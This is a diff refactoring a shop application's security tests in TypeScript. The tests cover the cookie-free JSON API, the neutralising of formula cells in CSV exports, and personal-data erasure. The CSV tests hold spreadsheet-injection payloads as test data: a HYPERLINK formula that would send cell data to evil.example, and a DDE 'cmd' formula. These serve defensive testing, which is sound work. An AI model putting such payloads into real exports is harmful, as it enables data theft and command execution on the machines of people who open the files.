@@ -10,7 +10,7 @@ import path from 'node:path';
 import { gunzipSync } from 'node:zlib';
 import { eq, inArray } from 'drizzle-orm';
 import pino from 'pino';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, describe, expect, it } from 'vitest';
 import { adminUpdateUser } from '../../core/accounts/admin.ts';
 import { eraseUser } from '../../core/accounts/privacy.ts';
 import { users } from '../../core/db/schema/accounts.ts';
@@ -27,10 +27,10 @@ import { orders } from '../../core/db/schema/orders.ts';
 import { createOrder } from '../../core/orders/service.ts';
 import { payments } from '../../core/db/schema/payments.ts';
 import { recordPayment } from '../../core/payments/service.ts';
-import { openShop, type Shop } from '../../core/shop.ts';
+import { openShop } from '../../core/shop.ts';
 import { createCustomer, productWith } from '../helpers/customers.ts';
-import { createTestHttp, userWithCookie, type TestHttp } from '../helpers/http.ts';
-import { createTestShop } from '../helpers/shop.ts';
+import { userWithCookie } from '../helpers/http.ts';
+import { useTestSuite } from '../helpers/suite.ts';
 
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'shop-security-2-'));
 afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
@@ -62,22 +62,16 @@ function openToOthers(dir: string): string[] {
 }
 
 describe('the JSON API takes no cookie', () => {
-  let shop: Shop;
-  let http: TestHttp;
-  beforeAll(async () => {
-    shop = await createTestShop();
-    http = await createTestHttp(shop);
-  }, 60_000);
-  afterAll(() => shop.close());
+  const t = useTestSuite({ http: true });
 
   it('a same-site page posting text/plain JSON to user/setRole with the admin’s cookie changes no role (401)', async () => {
-    const admin = await userWithCookie(shop, 'Admin');
-    const victim = await createCustomer(shop);
+    const admin = await userWithCookie(t.shop, 'Admin');
+    const victim = await createCustomer(t.shop);
     for (const headers of [
       { origin: 'http://blog.shop.test', 'sec-fetch-site': 'same-site' },
       { origin: 'http://shop.test:8080', 'sec-fetch-site': 'same-site' },
     ]) {
-      const res = await http.fetch('/api/user/setRole', {
+      const res = await t.http.fetch('/api/user/setRole', {
         method: 'POST',
         headers: { ...headers, 'content-type': 'text/plain' },
         body: JSON.stringify({ userID: victim.id, role: 'Admin' }),
@@ -85,10 +79,10 @@ describe('the JSON API takes no cookie', () => {
       });
       expect(res.status).toBe(401);
     }
-    const [row] = await shop.db.select({ role: users.role }).from(users).where(eq(users.id, victim.id));
+    const [row] = await t.shop.db.select({ role: users.role }).from(users).where(eq(users.id, victim.id));
     expect(row.role).toBe('Customer');
     // the same call with the admin's header token still works (the contract's way)
-    const ok = await http.fetch('/api/user/setRole', {
+    const ok = await t.http.fetch('/api/user/setRole', {
       method: 'POST',
       headers: { 'content-type': 'application/json', accestoken: admin.token },
       body: JSON.stringify({ userID: victim.id, role: 'Influencer' }),
@@ -97,9 +91,9 @@ describe('the JSON API takes no cookie', () => {
   });
 
   it('a GET with only the cookie is anonymous: user/list answers 401', async () => {
-    const admin = await userWithCookie(shop, 'Admin');
-    expect((await http.fetch('/api/user/list', { cookie: admin.cookie })).status).toBe(401);
-    expect((await http.fetch('/api/user/list', { headers: { authorization: `Bearer ${admin.token}` } })).status).toBe(200);
+    const admin = await userWithCookie(t.shop, 'Admin');
+    expect((await t.http.fetch('/api/user/list', { cookie: admin.cookie })).status).toBe(401);
+    expect((await t.http.fetch('/api/user/list', { headers: { authorization: `Bearer ${admin.token}` } })).status).toBe(200);
   });
 });
 
@@ -188,22 +182,18 @@ describe('backups and the data directory', () => {
 });
 
 describe('CSV exports neutralise formula cells', () => {
-  let shop: Shop;
-  beforeAll(async () => {
-    shop = await createTestShop();
-  }, 60_000);
-  afterAll(() => shop.close());
+  const t = useTestSuite();
 
   it('a customer named =HYPERLINK(…) is text in the order CSV; so are names starting with +, - and @', async () => {
-    const p = await productWith(shop, 50, 2000, 0);
+    const p = await productWith(t.shop, 50, 2000, 0);
     const names = ['=HYPERLINK("http://evil.example/?x="&A1;"Klick")', '+41 44 000', '-2+3', '@SUM(A1:A2)'];
     for (const firstName of names) {
-      const c = await createCustomer(shop);
-      await shop.db.update(users).set({ firstName, lastName: "d'Anjou" }).where(eq(users.id, c.id));
-      await addToCart(shop.db, c.id, p.id, 1, c.id);
-      await createOrder(shop, { userId: c.id, paymentMethod: 'qr-bill' });
+      const c = await createCustomer(t.shop);
+      await t.shop.db.update(users).set({ firstName, lastName: "d'Anjou" }).where(eq(users.id, c.id));
+      await addToCart(t.shop.db, c.id, p.id, 1, c.id);
+      await createOrder(t.shop, { userId: c.id, paymentMethod: 'qr-bill' });
     }
-    const csv = await ordersCsv(shop, {});
+    const csv = await ordersCsv(t.shop, {});
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klick"") d'Anjou"`);
     expect(csv).toContain(`,'+41 44 000 d'Anjou,`);
     expect(csv).toContain(`,'-2+3 d'Anjou,`);
@@ -214,10 +204,10 @@ describe('CSV exports neutralise formula cells', () => {
   });
 
   it('product names starting with =, tab or CR are text in the product CSV', async () => {
-    const rows = await shop.db.select().from(products).orderBy(products.sku).limit(3);
+    const rows = await t.shop.db.select().from(products).orderBy(products.sku).limit(3);
     const names = ["=cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
-    for (let i = 0; i < 3; i++) await shop.db.update(products).set({ name: names[i] }).where(eq(products.id, rows[i].id));
-    const csv = await productsCsv(shop.db);
+    for (let i = 0; i < 3; i++) await t.shop.db.update(products).set({ name: names[i] }).where(eq(products.id, rows[i].id));
+    const csv = await productsCsv(t.shop.db);
     expect(csv).toContain(`,'=cmd|' /C calc'!A0,`);
     expect(csv).toContain(`,'\t=1+1,`);
     expect(csv).toContain(`,"'\r=1+1",`);
@@ -225,32 +215,28 @@ describe('CSV exports neutralise formula cells', () => {
   });
 
   it("the shop's own export imports back unchanged: the leading ' of a neutralised cell is taken off", async () => {
-    const [row] = await shop.db.select().from(products).orderBy(products.sku).limit(1);
-    await shop.db.update(products).set({ name: '=HYPERLINK("http://evil.example")', brand: '@Brand' }).where(eq(products.id, row.id));
-    const csv = await productsCsv(shop.db);
+    const [row] = await t.shop.db.select().from(products).orderBy(products.sku).limit(1);
+    await t.shop.db.update(products).set({ name: '=HYPERLINK("http://evil.example")', brand: '@Brand' }).where(eq(products.id, row.id));
+    const csv = await productsCsv(t.shop.db);
     expect(csv).toContain(`'=HYPERLINK`);
-    const admin = await createCustomer(shop);
-    const result = await importProductsCsv(shop.db, csv, { dryRun: false, adminId: admin.id });
+    const admin = await createCustomer(t.shop);
+    const result = await importProductsCsv(t.shop.db, csv, { dryRun: false, adminId: admin.id });
     expect(result.problems).toEqual([]);
-    const [after] = await shop.db.select().from(products).where(eq(products.id, row.id));
+    const [after] = await t.shop.db.select().from(products).where(eq(products.id, row.id));
     expect(after.name).toBe('=HYPERLINK("http://evil.example")');
     expect(after.brand).toBe('@Brand');
   });
 });
 
 describe('erasure leaves no personal data behind', () => {
-  let shop: Shop;
-  beforeAll(async () => {
-    shop = await createTestShop();
-  }, 60_000);
-  afterAll(() => shop.close());
+  const t = useTestSuite();
 
   it('the audit log, the payment payloads and the outbox no longer name the erased customer', async () => {
-    const c = await createCustomer(shop);
-    const p = await productWith(shop, 20, 3000, 1);
-    await addToCart(shop.db, c.id, p.id, 1, c.id);
-    const order = await createOrder(shop, { userId: c.id, paymentMethod: 'qr-bill' });
-    await recordPayment(shop, {
+    const c = await createCustomer(t.shop);
+    const p = await productWith(t.shop, 20, 3000, 1);
+    await addToCart(t.shop.db, c.id, p.id, 1, c.id);
+    const order = await createOrder(t.shop, { userId: c.id, paymentMethod: 'qr-bill' });
+    await recordPayment(t.shop, {
       provider: 'bank',
       providerRef: `ref-${order.id}`,
       orderRef: order.code,
@@ -259,17 +245,17 @@ describe('erasure leaves no personal data behind', () => {
       exactAmount: false,
       raw: { debtorName: 'Anna Muster', debtorIban: 'CH9300762011623852957', note: `Zahlung Anna Muster ${c.email}`, amount: order.total },
     });
-    await shop.db.update(orders).set({ status: 'shipped' }).where(eq(orders.id, order.id));
+    await t.shop.db.update(orders).set({ status: 'shipped' }).where(eq(orders.id, order.id));
     // an admin corrects the phone and street: the audit entry holds old and new values
-    await adminUpdateUser(shop.db, 'admin:someone', c.id, {
+    await adminUpdateUser(t.shop.db, 'admin:someone', c.id, {
       firstName: 'Anna',
       lastName: 'Muster',
       phone: '+41 79 555 12 34',
       address: { street: 'Rämistrasse 71', postalCode: '8006', city: 'Zürich', country: 'CH' },
       role: 'Customer',
     });
-    await recordAudit(shop.db, { actor: 'system', action: 'user.resetMail', entity: 'user', entityId: c.id, after: { to: c.email } });
-    await recordAudit(shop.db, {
+    await recordAudit(t.shop.db, { actor: 'system', action: 'user.resetMail', entity: 'user', entityId: c.id, after: { to: c.email } });
+    await recordAudit(t.shop.db, {
       actor: 'admin:x',
       action: 'order.note',
       entity: 'order',
@@ -277,29 +263,29 @@ describe('erasure leaves no personal data behind', () => {
       after: { note: 'Anna Muster called, leave at the door' },
     });
     await queueMail(
-      shop.db,
+      t.shop.db,
       { to: 'shop@example.ch', subject: `New order from Anna Muster`, text: `Customer: Anna Muster <${c.email}>, Rämistrasse 71` },
       false,
     );
-    const before = await shop.db
+    const before = await t.shop.db
       .select()
       .from(auditLog)
       .where(inArray(auditLog.entityId, [c.id, order.id]));
     expect(JSON.stringify(before)).toContain('Seestrasse 5');
 
-    await eraseUser(shop.db, 'admin:someone', c.id);
+    await eraseUser(t.shop.db, 'admin:someone', c.id);
 
     const personal = [c.email, 'Anna', 'Muster', 'Seestrasse', 'Rämistrasse', '555 12 34', 'CH9300762011623852957'];
-    const audit = JSON.stringify(await shop.db.select().from(auditLog));
-    const pays = JSON.stringify(await shop.db.select().from(payments).where(eq(payments.orderId, order.id)));
-    const mails = JSON.stringify(await shop.db.select().from(outbox));
+    const audit = JSON.stringify(await t.shop.db.select().from(auditLog));
+    const pays = JSON.stringify(await t.shop.db.select().from(payments).where(eq(payments.orderId, order.id)));
+    const mails = JSON.stringify(await t.shop.db.select().from(outbox));
     for (const value of personal) {
       expect(audit).not.toContain(value);
       expect(pays).not.toContain(value);
       expect(mails).not.toContain(value);
     }
     // the records themselves stay, with their ids, actions and amounts
-    const after = await shop.db
+    const after = await t.shop.db
       .select()
       .from(auditLog)
       .where(inArray(auditLog.entityId, [c.id, order.id]));
